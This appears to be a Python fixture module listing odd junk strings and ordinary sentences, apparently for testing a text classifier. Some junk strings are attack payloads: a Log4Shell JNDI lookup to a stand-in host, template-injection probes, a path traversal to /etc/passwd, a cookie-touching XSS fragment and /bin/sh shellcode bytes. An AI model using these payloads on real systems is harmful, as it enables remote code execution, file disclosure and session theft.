"""Texts that belong in no collection of plain notes, and plain notes of unusual subjects."""

from __future__ import annotations

ODD: tuple[str, ...] = (
    "zxqv wrtkp jhfgd mnbvc lkjhg pqwrt xzcvb tgbyh",
    "asdf jkl; asdf jkl; qwer uiop zxcv bnm,",
    "SGVsbG8gd29ybGQgdGhpcyBpcyBiYXNlNjQgdGV4dCB0aGF0IG5vYm9keSBzaG91bGQgcmVtZW1iZXI=",
    "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08 3f786850e387550fdab836ed7e6dc881de23001b",
    "!function(e,t){var n=e[0],r=t||{};for(var i in n)r[i]^=n[i]<<3|n[i]>>>5;return r}(window,document);",
    "%PDF-1.4 %âãÏÓ 7 0 obj << /Length 8 0 R /Filter /FlateDecode >> stream xœ¥T",
    "0x7fff 0x8a30 0x0041 0xdead 0xbeef 0x0000 0x0001 0xcafe 0xbabe 0x1234",
    "buy buy buy buy buy buy buy buy buy buy buy buy buy buy buy buy buy buy buy buy buy buy buy buy buy buy buy",
    "🎰🎰🎰💰💰💰🔥🔥🔥🎰🎰🎰💰💰💰🔥🔥🔥",
    "{{7*7}} ${jndi:ldap://x/a} <%= 7 %> #{7*7} ../../../../etc/passwd%00",
    "kjH7fQ29xLpZ0vRt8WqYbN3mGs5DcEa1UiOoKh6JgFdSaPl4",
    "§§§ ### @@@ ~~~ ||| ^^^ &&& *** +++ === --- ___ ```",
    "1 0 0 1 1 0 1 0 0 1 1 1 0 1 0 0 1 0 1 1 0 1 0 1 1 0 0 1 0 1",
    "eval(atob('YWxlcnQoMSk=')); document.cookie='x='+escape(top.location.href);//--></script>",
    "dsfkjhsdkfjh sdkfjhsdkjfh ksdjhfkjsdhf kjsdhfkjhsdf",
    "AAAAB3NzaC1yc2EAAAADAQABAAABAQC7vbqajDhA+17pG2ZzVbWkG0dCq2E5mS",
    "\\x90\\x90\\x90\\x31\\xc0\\x50\\x68\\x2f\\x2f\\x73\\x68\\x68\\x2f\\x62\\x69\\x6e",
    "lllllllllllllllllllllllllllllllllllllllllllllllllllllllllllllllllllllllllllllllllllllllll",
)
UNUSUAL: tuple[str, ...] = (
    "The glacier lost four metres of ice in the summer of 2019.",
    "Photosynthesis turns light into sugar in the leaves.",
    "Meeting with the notary on 3 June at 10:30, room 214.",
    "My sister's flight SK 1421 lands at 18:05.",
    "The recipe needs 250 g flour, 3 eggs and 1/2 l milk.",
    "Ich habe am Dienstag einen Termin beim Zahnarzt.",
    "El tren a Madrid sale a las nueve y media.",
    "Il fait froid, n'oublie pas ton manteau.",
    "Use `git rebase -i main` before a pull request.",
    "The API answers 404 for unknown users since version 2.3.1.",
    "BBC, NASA and UNESCO sent observers.",
    "See https://example.org/a/very/long/path?with=parameters for the minutes.",
    "WiFi at the cabin is slow; take a book.",
    "The quartet plays Schostakowitsch and Dvořák.",
    "Rhythm, crypt and lynx have no vowels but a y.",
    "Angstschweiß and Weltschmerz are hard to translate.",
)
